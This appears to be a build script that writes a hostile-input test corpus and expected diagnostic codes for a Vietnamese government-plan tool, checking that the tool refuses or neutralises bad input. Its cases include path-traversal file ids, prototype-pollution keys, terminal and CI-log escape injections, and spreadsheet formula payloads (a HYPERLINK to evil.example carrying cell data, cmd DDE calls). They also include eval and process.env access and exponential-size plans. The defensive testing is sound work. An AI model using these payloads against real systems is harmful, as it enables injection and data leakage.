// Regenerates tests/hostile/corpus/: hostile plan files, each with the diagnostic code it
// must give (tests/hostile/expected.json). Run after changing the base plan or the list.
// Uses the built core: `pnpm build` first.
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { before, defineRegistry, definePlan, stringifyPlan, when, yearly } from '../packages/core/dist/index.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const dir = path.join(root, 'tests', 'hostile', 'corpus');

const r = defineRegistry({
  units: {
    ubnd: { name: 'Ủy ban nhân dân tỉnh', short: 'UBND tỉnh', kind: 'people-committee' },
    soYTe: { name: 'Sở Y tế', kind: 'department' },
    soTaiChinh: { name: 'Sở Tài chính', kind: 'department' },
  },
  groups: { soNganh: { name: 'Các sở, ngành', members: ['soYTe', 'soTaiChinh'] } },
});
const base = JSON.parse(
  stringifyPlan(
    definePlan({
      registry: r,
      number: '01/KH-UBND',
      issuer: 'ubnd',
      place: 'Khánh Hòa',
      issuedOn: '2026-01-05',
      title: 'KẾ HOẠCH THỬ',
      period: { from: '2026-01-01', to: '2026-12-31' },
      body: [
        r.section('I', 'NHIỆM VỤ', [
          r.task('1', { lead: 'soYTe', partners: ['soTaiChinh'], text: 'Sở Y tế chủ trì.', deadlines: [before('2026-03-31')] }),
          r.task('2', { lead: 'soTaiChinh', text: 'Sở Tài chính chủ trì.', deadlines: [when('khi xảy ra thiên tai')] }),
          r.item('3', 'Báo cáo hằng năm.', { reports: [r.report({ from: r.each('soNganh'), to: 'ubnd', what: 'Báo cáo', deadlines: [yearly({ month: 11, day: 15 })] })] }),
        ]),
      ],
      recipients: [{ text: 'Các sở, ngành', units: ['soNganh'] }, { text: 'Lưu: VT', archive: true }],
      signature: { form: 'KT', authority: 'CHỦ TỊCH', title: 'PHÓ CHỦ TỊCH', name: 'Nguyễn Văn A' },
    }),
  ),
);

const clone = () => structuredClone(base);
const edit = (fn) => {
  const p = clone();
  fn(p);
  return JSON.stringify(p, null, 2);
};
const task = (p, i = 0) => p.body[0].children[i];

/** name → [file content, expected code or 'ok'] */
const cases = {
  'valid.json': [JSON.stringify(base, null, 2), 'ok'],
  'valid-bom.json': [`\uFEFF${JSON.stringify(base)}`, 'ok'],
  'valid-nfd.json': [JSON.stringify(base).normalize('NFD'), 'ok'],
  'valid-minified.json': [JSON.stringify(base), 'ok'],
  'empty.json': ['', 'json/empty'],
  'whitespace.json': ['  \n\t\n', 'json/empty'],
  'truncated.json': [JSON.stringify(base, null, 2).slice(0, 400), 'json/syntax'],
  'trailing-comma.json': [JSON.stringify(base).replace(/}$/, ',}'), 'json/syntax'],
  'comments.json': [`// kế hoạch\n${JSON.stringify(base)}`, 'json/syntax'],
  'single-quotes.json': ["{'schema': 'kehoach/plan@1'}", 'json/syntax'],
  'not-json.json': ['Kế hoạch số 12127/KH-UBND', 'json/syntax'],
  'nan.json': [JSON.stringify(base).replace('"period"', '"x": NaN, "period"'), 'json/syntax'],
  'null.json': ['null', 'schema/invalid-type'],
  'array.json': ['[]', 'schema/invalid-type'],
  'number.json': ['42', 'schema/invalid-type'],
  'string.json': ['"plan"', 'schema/invalid-type'],
  'empty-object.json': ['{}', 'schema/missing'],
  'missing-number.json': [edit((p) => delete p.number), 'schema/missing'],
  'missing-body.json': [edit((p) => delete p.body), 'schema/missing'],
  'missing-lead.json': [edit((p) => delete task(p).lead), 'schema/missing'],
  'wrong-type-issued-on.json': [edit((p) => (p.issuedOn = 20260105)), 'schema/invalid-type'],
  'wrong-type-partners.json': [edit((p) => (task(p).partners = 'soTaiChinh')), 'schema/invalid-type'],
  'wrong-type-deadline-date.json': [edit((p) => (task(p).deadlines[0].date = 20260331)), 'schema/invalid-type'],
  'impossible-date.json': [edit((p) => (p.issuedOn = '2021-02-30')), 'schema/invalid-date'],
  'impossible-leap-date.json': [edit((p) => (task(p).deadlines[0].date = '2025-02-29')), 'schema/invalid-date'],
  'vietnamese-date-format.json': [edit((p) => (p.issuedOn = '05/01/2026')), 'schema/invalid-date'],
  'date-with-time.json': [edit((p) => (p.issuedOn = '2026-01-05T00:00:00Z')), 'schema/invalid-date'],
  'month-13.json': [edit((p) => (p.period.to = '2026-13-01')), 'schema/invalid-date'],
  'unknown-field-root.json': [edit((p) => (p.colour = 'red')), 'schema/unknown-field'],
  'unknown-field-task.json': [edit((p) => (task(p).priority = 1)), 'schema/unknown-field'],
  'proto-key.json': [JSON.stringify(base).replace('{"schema"', '{"__proto__":{"polluted":true},"schema"'), 'schema/unknown-field'],
  'constructor-key.json': [edit((p) => (task(p).constructor = { prototype: { polluted: true } })), 'schema/unknown-field'],
  'prototype-key.json': [edit((p) => (p.units[0].prototype = {})), 'schema/unknown-field'],
  'unknown-node-type.json': [edit((p) => (task(p).type = 'chore')), 'schema/invalid-value'],
  'unknown-deadline-kind.json': [edit((p) => (task(p).deadlines[0].kind = 'someday')), 'schema/invalid-value'],
  'wrong-schema-version.json': [edit((p) => (p.schema = 'kehoach/plan@2')), 'schema/invalid-value'],
  'bad-signature-form.json': [edit((p) => (p.signature.form = 'KT.')), 'schema/invalid-value'],
  'bad-bullet.json': [edit((p) => (task(p).bullet = '*')), 'schema/invalid-value'],
  'huge-year.json': [edit((p) => (task(p).deadlines = [{ kind: 'end-of', period: 'year', year: 1e308 }])), 'schema/out-of-range'],
  'negative-month.json': [edit((p) => (p.body[0].children[2].reports[0].deadlines[0].month = -11)), 'schema/out-of-range'],
  'infinite-target.json': [
    JSON.stringify(base).replace('"text":"Sở Y tế chủ trì."', '"text":"Sở Y tế chủ trì.","targets":[{"id":"x","metric":"m","direction":"reach","value":1e999}]'),
    'schema/invalid-type',
  ],
  'fractional-year.json': [edit((p) => (task(p).deadlines = [{ kind: 'end-of', period: 'year', year: 2026.5 }])), 'schema/invalid-type'],
  'empty-title.json': [edit((p) => (p.title = '')), 'schema/empty'],
  'megabyte-title.json': [edit((p) => (p.title = 'Â'.repeat(1 << 20))), 'schema/too-long'],
  'megabyte-text.json': [edit((p) => (task(p).text = 'Nhiệm vụ '.repeat(120_000))), 'schema/too-long'],
  'nul-in-unit-name.json': [edit((p) => (p.units[1].name = 'Sở\u0000Y tế')), 'schema/control-character'],
  'newline-in-unit-name.json': [edit((p) => (p.units[1].name = 'Sở Y tế\nBEGIN:VEVENT')), 'schema/control-character'],
  'cr-in-unit-name.json': [edit((p) => (p.units[1].name = 'Sở Y tế\r')), 'schema/control-character'],
  'bell-in-text.json': [edit((p) => (task(p).text = 'Sở Y tế\u0007 chủ trì.')), 'schema/control-character'],
  'lone-surrogate.json': [JSON.stringify(base).replace('"Sở Y tế chủ trì."', '"Sở Y tế \\ud800 chủ trì."'), 'schema/control-character'],
  'space-in-unit-key.json': [edit((p) => (p.units[1].key = 'so y te')), 'schema/invalid-format'],
  'deep-nesting.json': [`${'['.repeat(1000)}${']'.repeat(1000)}`, 'input/too-deep'],
  'deep-body.json': [
    JSON.stringify(base).replace('"body":[', `"body":[${'{"type":"section","id":"x","children":['.repeat(400)}${']}'.repeat(400)},`),
    'input/too-deep',
  ],
};

// Values that pass a plain type check but break later, and values aimed at the outputs
// (file names, terminals, CI logs, spreadsheets): refused with a code (exit 2), reported by a
// validator rule (a KH code: the plan loads, and `validate` exits 1), or accepted and
// neutralised on output ('ok').
Object.assign(cases, {
  'id-parent-folder.json': [edit((p) => (p.id = '../package')), 'schema/unsafe-file-name'],
  'id-far-outside.json': [edit((p) => (p.id = '../../../elsewhere/x')), 'schema/unsafe-file-name'],
  'id-absolute-path.json': [edit((p) => (p.id = '/tmp/kehoach-owned')), 'schema/unsafe-file-name'],
  'id-windows-device.json': [edit((p) => (p.id = 'CON')), 'schema/unsafe-file-name'],
  'id-hidden-file.json': [edit((p) => (p.id = '.bashrc')), 'schema/unsafe-file-name'],
  'node-id-escape-sequence.json': [edit((p) => (task(p).id = 'I.1\u001b[2J\u001b]0;owned\u0007')), 'schema/control-character'],
  'node-id-bidi-override.json': [edit((p) => (task(p).id = 'I.1\u202e2.I')), 'schema/invisible-character'],
  'node-id-zero-width.json': [edit((p) => (task(p).id = 'I.\u200b1')), 'schema/invisible-character'],
  'node-id-line-separator.json': [edit((p) => (task(p).id = 'I.1\u2028I.2')), 'schema/invisible-character'],
  'date-year-zero-leap-day.json': [edit((p) => (task(p).deadlines[0].date = '0000-02-29')), 'schema/date-out-of-range'],
  'date-before-calendar.json': [edit((p) => (p.period.from = '1799-12-31')), 'schema/date-out-of-range'],
  'date-year-9999.json': [edit((p) => (p.period.to = '9999-12-31')), 'schema/date-out-of-range'],
  'date-after-calendar.json': [edit((p) => (p.body[0].children[2].reports[0].deadlines[0].until = '2200-01-01')), 'schema/date-out-of-range'],
  'end-of-year-2101.json': [edit((p) => (task(p).deadlines = [{ kind: 'end-of', period: 'year', year: 2101 }])), 'schema/out-of-range'],
  'unknown-key-escape-sequence.json': [edit((p) => (p['x\u001b[2J\u0007\u0000'] = 1)), 'schema/unknown-field'],
  'unknown-key-workflow-command.json': [edit((p) => (task(p)['x\n::error file=README.md::owned\n'] = 1)), 'schema/unknown-field'],
  'unit-name-bidi-override.json': [edit((p) => (p.units[1].name = 'Sở \u202eY tế')), 'KH701'],
  'unit-name-zero-width.json': [edit((p) => (p.units[1].name = 'Sở Y\u200b tế')), 'KH701'],
  'unit-name-line-separator.json': [edit((p) => (p.units[2].name = 'Sở Tài chính\u2028Sở Y tế')), 'KH701'],
  'unit-name-cyrillic-o.json': [edit((p) => (p.units[2].name = 'S\u043e\u031b\u0309 Y tế'.normalize('NFC'))), 'KH125'],
  'unit-name-greek-lookalike.json': [edit((p) => (p.units[2].name = 'S\u03bf\u031b\u0309 Y tế'.normalize('NFC'))), 'KH125'],
  'group-contains-itself.json': [edit((p) => p.groups[0].members.push('soNganh')), 'KH124'],
  'groups-nested-cycle.json': [
    edit((p) => {
      p.groups.push({ key: 'tatCa', name: 'Các sở, ngành, địa phương', members: ['soNganh'], mode: 'each', complete: true });
      p.groups[0].members.push('tatCa');
    }),
    'KH124',
  ],
  'csv-formulas.json': [
    edit((p) => {
      p.units[1].name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
      p.units[2].name = "+cmd|'/C calc'!A0";
      p.units[2].short = '@SUM(1+1)*cmd|x';
      task(p).text = '-2+3+cmd|x';
      p.body[0].children[2].reports[0].what = '=1+1';
    }),
    'ok',
  ],
});

rmSync(dir, { recursive: true, force: true });
mkdirSync(dir, { recursive: true });
const expected = {};
for (const [name, [content, code]] of Object.entries(cases)) {
  writeFileSync(path.join(dir, name), content);
  expected[name] = code;
}
writeFileSync(path.join(root, 'tests', 'hostile', 'expected.json'), `${JSON.stringify(expected, null, 2)}\n`);
console.log(`${readdirSync(dir).length} files in ${path.relative(root, dir)}`);

// The reading side (docs/security.md): plan folders that --no-exec must refuse, each with the
// code it gives and the exit status, in tests/hostile/reading/ and tests/hostile/reading.json.
// Cases that need a link, a FIFO, a folder or a huge file are built by the test itself
// (tests/hostile/reading.test.ts): git cannot hold them, or should not.
const readingDir = path.join(root, 'tests', 'hostile', 'reading');
const PLAN_TS = `import { before, definePlan, defineRegistry } from '@kehoach/core';

const r = defineRegistry({
  units: { ubnd: { name: 'UBND tỉnh', kind: 'people-committee' }, soYTe: { name: 'Sở Y tế', kind: 'department' } },
});

export default definePlan({
  registry: r,
  number: '01/KH-UBND',
  issuer: 'ubnd',
  place: 'Khánh Hòa',
  issuedOn: '2026-01-05',
  title: TITLE,
  period: { from: '2026-01-01', to: '2026-12-31' },
  body: [r.section('I', 'NHIỆM VỤ', [r.task('1', { lead: 'soYTe', text: 'Sở Y tế chủ trì.', deadlines: [before('2026-03-31')] })])],
  signature: { form: 'KT', authority: 'CHỦ TỊCH', title: 'PHÓ CHỦ TỊCH', name: 'Nguyễn Văn A' },
});
`;
const plan = (extra, title = "'KẾ HOẠCH THỬ'") => `${PLAN_TS.replace('TITLE', title)}${extra}`;
const doubling = Array.from({ length: 40 }, (_, i) => (i === 0 ? "const a0 = ['x'];" : `const a${i} = [a${i - 1}, a${i - 1}];`)).join('\n');
const strings = Array.from({ length: 40 }, (_, i) => (i === 0 ? "const s0 = 'xx';" : `const s${i} = s${i - 1} + s${i - 1};`)).join('\n');
/** folder → [files, code, exit status] */
const reading = {
  'control-valid': [{ 'plan.ts': plan('') }, 'ok', 0],
  'unused-eval': [{ 'plan.ts': plan("const unused = eval('1 + 1');\n") }, 'static/unsupported', 2],
  'unused-class-static-block': [{ 'plan.ts': plan("const C = class { static { globalThis.x = 1; } };\n") }, 'static/unsupported', 2],
  'unused-dynamic-import': [{ 'plan.ts': plan("const m = import('node:fs');\n") }, 'static/unsupported', 2],
  'unused-require': [{ 'plan.ts': plan("const fs = require('node:fs');\n") }, 'static/unsupported', 2],
  'unused-new-function': [{ 'plan.ts': plan("const f = new Function('return process.env');\n") }, 'static/unsupported', 2],
  'side-effect-import': [{ 'plan.ts': `import './evil.js';\n${plan('')}`, 'evil.ts': "console.log('ran');\n" }, 'static/import', 2],
  'unused-class-declaration': [{ 'plan.ts': plan('class C { static { console.log(1); } }\n') }, 'static/unsupported', 2],
  'doubling-constants': [{ 'plan.ts': `${doubling}\n${plan('').replace("number: '01/KH-UBND',", "number: '01/KH-UBND',\n  corrections: a39 as never,")}` }, 'static/too-large', 2],
  'exponential-string': [{ 'plan.ts': `${strings}\n${plan('', 's39')}` }, 'static/too-large', 2],
  'deep-array': [{ 'plan.ts': plan(`export const deep = ${'['.repeat(100_000)}${']'.repeat(100_000)};\n`) }, 'input/too-deep', 2],
  'deep-sum': [{ 'plan.ts': plan(`export const sum = ${Array(100_000).fill('1').join(' + ')};\n`) }, 'input/too-deep', 2],
  'import-outside-root': [{ 'plan.ts': `import { x } from '../../../../../../../../../../etc/x.js';\n${plan('')}` }, 'input/outside-root', 2],
  'type-import-outside-root': [{ 'plan.ts': `import type { Plan } from '../../../../../../../../../../etc/plan.js';\n${plan('')}` }, 'input/outside-root', 2],
  'invalid-utf8-json': [{ 'plan.json': Buffer.concat([Buffer.from('{"schema": "kehoach/plan@1", "title": "K'), Buffer.from([0xff]), Buffer.from('"}')]) }, 'input/invalid-utf8', 2],
  'deep-json': [{ 'plan.json': `${'['.repeat(100_000)}${']'.repeat(100_000)}` }, 'input/too-deep', 2],
  'invalid-utf8': [{ 'plan.ts': Buffer.concat([Buffer.from(plan('').slice(0, 120)), Buffer.from([0xc3, 0x28]), Buffer.from(plan('').slice(120))]) }, 'input/invalid-utf8', 2],
};
rmSync(readingDir, { recursive: true, force: true });
const readingExpected = {};
for (const [name, [files, code, status]] of Object.entries(reading)) {
  mkdirSync(path.join(readingDir, name), { recursive: true });
  for (const [file, content] of Object.entries(files)) writeFileSync(path.join(readingDir, name, file), content);
  readingExpected[name] = { code, status };
}
writeFileSync(path.join(root, 'tests', 'hostile', 'reading.json'), `${JSON.stringify(readingExpected, null, 2)}\n`);
console.log(`${Object.keys(reading).length} folders in ${path.relative(root, readingDir)}`);
